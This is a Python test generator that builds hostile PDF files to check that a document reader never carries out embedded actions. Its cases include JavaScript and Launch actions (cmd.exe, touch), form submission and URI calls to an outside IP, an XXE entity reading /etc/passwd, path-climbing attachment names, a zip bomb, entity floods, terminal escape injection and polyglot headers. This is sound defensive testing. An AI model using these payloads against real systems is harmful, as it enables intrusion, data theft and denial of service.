"""PDF: actions, forms, notes, bookmarks and attachments that want to do something; files that are also others."""

from __future__ import annotations

import random
import zlib
from collections.abc import Iterator

from scripts.hostile.case import GOOD, LIMIT, OK, PARTIAL, UNSUPPORTED, Case
from scripts.hostile.pdf_writer import Pdf, shown, stream

ANY = (OK, PARTIAL, LIMIT)
MARK = "localcounsel-hostile"
"""What an action would leave behind if anything ran it."""


def _pdf(family: str, variant: str, made: Pdf, *outcomes: str, shows: str = GOOD, never: str = "") -> Case:
    return Case(f"pdf-{family}", variant, ".pdf", made.write(), outcomes or ANY, shows, never)


def _actions(chance: random.Random) -> Iterator[Case]:
    """Nothing in a document is ever carried out."""
    target = f"/tmp/{MARK}".encode()
    actions = {
        "javascript": b"/S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\); while\\(1\\){})",
        "launch": b"/S /Launch /F (%b) /Win << /F (cmd.exe) /P (/c calc) >> /Unix (touch %b)" % (target, target),
        "uri": b"/S /URI /URI (http://192.0.2.1/?q=secret)",
        "submit": b"/S /SubmitForm /F (http://192.0.2.1/) /Flags 4",
        "remote": b"/S /GoToR /F (\\\\\\\\192.0.2.1\\\\share\\\\x.pdf) /D [0 /Fit]",
        "import": b"/S /ImportData /F (/etc/passwd)",
        "named": b"/S /Named /N /Print",
        "next-itself": b"/S /JavaScript /JS (1) /Next 4 0 R",
    }
    for variant, action in actions.items():
        made = Pdf(
            own=[b"<< /Type /Action %b >>" % action],
            catalog=b"/OpenAction 4 0 R /AA << /WC 4 0 R /DS 4 0 R >> "
            b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
            page=b"/AA << /O 4 0 R /C 4 0 R >>",
        )
        yield _pdf("action", variant, made, OK, never="root:")


def _notes(chance: random.Random) -> Iterator[Case]:
    """Comments and form fields: loops, crowds, appearances that paint themselves, forms of another kind."""
    own = [
        b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 99 99] /AP << /N 5 0 R >> /Parent 4 0 R "
        b"/Popup 4 0 R /IRT 4 0 R >>",
        stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>"),
    ]
    yield _pdf("note", "itself", Pdf(own=own, page=b"/Annots [4 0 R]"), OK, PARTIAL)
    crowd = b"/Annots [%b]" % (b"4 0 R " * chance.randint(40_000, 60_000))
    yield _pdf("note", "crowd", Pdf(own=own, page=crowd), *ANY)
    yield _pdf("note", "list-itself", Pdf(own=[b"[4 0 R]"], page=b"/Annots 4 0 R"), OK, PARTIAL)
    fields = b"<< /T (a) /Kids [4 0 R 4 0 R] /Parent 4 0 R /FT /Tx /V 4 0 R >>"
    yield _pdf("note", "fields", Pdf(own=[fields], catalog=b"/AcroForm << /Fields [4 0 R] >>"), OK, PARTIAL)
    bomb = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><xdp:xdp><template>&a;</template></xdp:xdp>'
    form = b"/AcroForm << /XFA 4 0 R /Fields [] >> /NeedsRendering true"
    yield _pdf("note", "xfa", Pdf(own=[stream(bomb)], catalog=form), PARTIAL, OK, never="root:")


def _bookmarks(chance: random.Random) -> Iterator[Case]:
    """Outlines and page labels that turn in circles."""
    loop = [b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 9 >>", b"<< /Title (a) /Next 5 0 R /First 5 0 R >>"]
    yield _pdf("outline", "itself", Pdf(own=loop, catalog=b"/Outlines 4 0 R"), OK, PARTIAL)
    count = chance.randint(18_000, 22_000)
    chain = [b"<< /First 5 0 R >>"] + [b"<< /Title (a) /Dest [1 /Fit] /Next %d 0 R >>" % (6 + n) for n in range(count)]
    yield _pdf("outline", "chain", Pdf(own=chain, catalog=b"/Outlines 4 0 R"), OK, PARTIAL)
    down = [b"<< /First 5 0 R >>"] + [b"<< /Title (a) /First %d 0 R >>" % (6 + n) for n in range(count)]
    yield _pdf("outline", "deep", Pdf(own=down, catalog=b"/Outlines 4 0 R"), OK, PARTIAL)
    long = [b"<< /First 5 0 R >>", b"<< /Title (%b) /Dest [6 0 R /Fit] >>" % (b"long " * 400_000)]
    yield _pdf("outline", "long-title", Pdf(own=long, catalog=b"/Outlines 4 0 R"), OK, PARTIAL)
    for variant, labels in (
        ("itself", b"/PageLabels 4 0 R"),
        ("start", b"/PageLabels << /Nums [0 << /S /r /St 2147483647 >>] >>"),
        ("letters", b"/PageLabels << /Nums [0 << /S /A /St 2147483647 >>] >>"),
        ("prefix", b"/PageLabels << /Nums [0 << /P (%b) >>] >>" % (b"\\033[2J" * 20)),
    ):
        made = Pdf(own=[b"<< /Kids [4 0 R 4 0 R] /Limits [0 9] >>"], catalog=labels)
        yield _pdf("label", variant, made, *ANY, shows="", never="\x1b")


def _attachments(chance: random.Random) -> Iterator[Case]:
    """Files in the file: circles, bombs, crowds, and names that climb."""
    tree = b"/Names << /EmbeddedFiles << /Names [%b] >> >>"
    held = stream(zlib.compress(bytes(chance.randint(400_000_000, 450_000_000)), 9), b"/Filter /FlateDecode")
    spec = b"<< /Type /Filespec /F (../../../../tmp/%b) /EF << /F 5 0 R >> >>" % MARK.encode()
    yield _pdf("attached", "bomb", Pdf(own=[spec, held], catalog=tree % b"(a) 4 0 R"), *ANY, shows="")
    small = stream(b"words in the attachment")
    yield _pdf("attached", "climbing", Pdf(own=[spec, small], catalog=tree % b"(a) 4 0 R"), OK, never="..")
    crowd = tree % b" ".join(b"(a%d) 4 0 R" % n for n in range(700))
    yield _pdf("attached", "crowd", Pdf(own=[spec, small], catalog=crowd), PARTIAL)
    loop = b"/Names << /EmbeddedFiles 4 0 R >>"
    yield _pdf("attached", "itself", Pdf(own=[b"<< /Kids [4 0 R 4 0 R] >>"], catalog=loop), OK, PARTIAL)


def _floods(chance: random.Random) -> Iterator[Case]:
    """More text than a page can hold, objects without number, facts with escape sequences."""
    count = chance.randint(390_000, 410_000)
    page = b"BT /F1 1 Tf 9 9 Td " + b"(a a a a a a a a a a) Tj " * (count // 10) + b"ET"
    yield _pdf("flood", "one-page", Pdf(contents=[page, shown(GOOD)]), PARTIAL)
    yield _pdf("flood", "objects", Pdf(contents=[shown("roof") * 30_000]), PARTIAL, LIMIT, shows="roof")
    boxes = b"1 1 1 rg " + b"70 690 300 30 re f " * 15_000
    yield _pdf("flood", "boxes", Pdf(contents=[shown(GOOD) + boxes]), OK, PARTIAL, LIMIT)
    segments = b"0 0 m " + b"%d 5 l " % chance.randint(1, 600) * 400_000 + b"f"
    yield _pdf("flood", "segments", Pdf(contents=[shown(GOOD) + segments]), *ANY)
    same = b"".join(shown("x", at=(300, 400)) for _ in range(15_000))
    yield _pdf("flood", "one-place", Pdf(contents=[same]), *ANY, shows="")
    odd = b"BT /F1 1e30 Tf 1e-30 Tz 1e30 Tc 1e30 TL -1e30 0 0 1e-30 1e30 1e30 Tm (%b) Tj T* ET" % GOOD.encode()
    yield _pdf("flood", "numbers", Pdf(contents=[odd + shown(GOOD)]), OK, PARTIAL)
    facts = b"<< /Title (\\033]0;owned\\007 \\033[2J) /Author (%b) >>" % (b"\\376\\377\\040\\056" * 5_000)
    yield _pdf("flood", "facts", Pdf(own=[facts], trailer=b"/Info 4 0 R"), OK, never="\x1b")
    entities = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
    packet = stream(entities * 5_000, b"/Type /Metadata /Subtype /XML")
    yield _pdf("flood", "packet", Pdf(own=[packet], catalog=b"/Metadata 4 0 R"), OK)


def _polyglots(chance: random.Random) -> Iterator[Case]:
    """Files that begin or end as something else."""
    whole = Pdf().write()
    heads = {
        "html": (b"<html><script>alert(1)</script>\n", (OK, PARTIAL)),
        "late": (b"%" + b"x" * 900 + b"\n", (OK, PARTIAL)),
        "noise": (b"\x80" + chance.randbytes(500) + b"\n", (OK, PARTIAL)),
        "program": (b"MZ\x90\x00" + bytes(60), (UNSUPPORTED,)),
        "zip": (b"PK\x03\x04" + bytes(60), (UNSUPPORTED, "Damaged")),
        "gzip": (b"\x1f\x8b\x08" + bytes(60), (UNSUPPORTED,)),
    }
    for variant, (head, outcomes) in heads.items():
        yield Case("pdf-polyglot", variant, ".pdf", head + whole, outcomes, GOOD if OK in outcomes else "")
    yield Case("pdf-polyglot", "zip-behind", ".pdf", whole + b"PK\x05\x06" + bytes(18), (OK, PARTIAL), GOOD)
    yield Case("pdf-polyglot", "txt-name", ".txt", whole, (OK, PARTIAL), GOOD)


LIGHT = (_actions, _bookmarks, _polyglots)
DEAR = (_notes, _attachments, _floods)
"""Those whose files take seconds or hundreds of megabytes to make or to read."""
